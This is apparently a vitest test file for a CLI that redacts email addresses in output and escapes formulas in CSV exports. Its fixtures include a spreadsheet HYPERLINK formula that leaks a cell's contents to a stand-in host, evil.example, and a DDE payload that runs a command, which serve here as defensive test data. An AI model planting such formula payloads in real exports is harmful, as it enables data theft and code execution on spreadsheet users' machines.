import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runCli } from '../../../src/cli/run-cli.js';
import { openStore } from '../../../src/store/open-store.js';
import { captureCliIo } from '../../helpers/capture-cli-io.js';
import { insertDraft } from '../../helpers/draft-builder.js';
import { makeTempDir } from '../../helpers/make-temp-dir.js';

const ADDRESSES = ['jörg.müller@bücher.de', '"john doe"@example.com', 'user@[192.0.2.1]'];

describe('what the terminal and the export show of a hostile draft', () => {
  let dbPath: string;
  let formulaDraft: number;
  let addressDraft: number;
  let cleanup: () => Promise<void>;

  beforeEach(async () => {
    const tmp = await makeTempDir('normbot-safe-');
    cleanup = tmp.cleanup;
    dbPath = path.join(tmp.dir, 'bot.sqlite');
    const store = await openStore(dbPath);
    formulaDraft = await insertDraft(store.db, { fields: { name: '=HYPERLINK("http://evil.example/?"&A2,"x")', maintainer: '@SUM(1+1)*cmd|" /C calc"!A0' } });
    addressDraft = await insertDraft(store.db, { fields: { name: `Accord of ${ADDRESSES[0]}`, parties: `${ADDRESSES[1]} and ${ADDRESSES[2]}`, maintainer: 'Bücher GmbH' } });
    await store.close();
  });
  afterEach(async () => cleanup());

  const cli = async (...argv: string[]) => {
    const io = captureCliIo({ env: { USER: 'operator-ann' } });
    const code = await runCli([...argv, '--db', dbPath], io);
    return { code, out: io.out() };
  };

  it('hides internationalised, quoted and IP-literal addresses in drafts and show', async () => {
    for (const argv of [['drafts'], ['show', String(addressDraft)]]) {
      const { code, out } = await cli(...argv);
      expect(code).toBe(0);
      for (const a of ADDRESSES) expect(out).not.toContain(a);
      expect(out).toContain('[e-mail address removed]');
    }
  });

  it('exports no approved address and no live formula to CSV', async () => {
    expect((await cli('approve', String(formulaDraft))).code).toBe(0);
    expect((await cli('approve', String(addressDraft))).code).toBe(0);
    const { code, out } = await cli('export', '--format', 'csv');
    expect(code).toBe(0);
    for (const a of ADDRESSES) expect(out).not.toContain(a);
    const cells = out.split('\r\n').flatMap((line) => line.split(','));
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(out).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2`);
    expect(out).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
  });
});
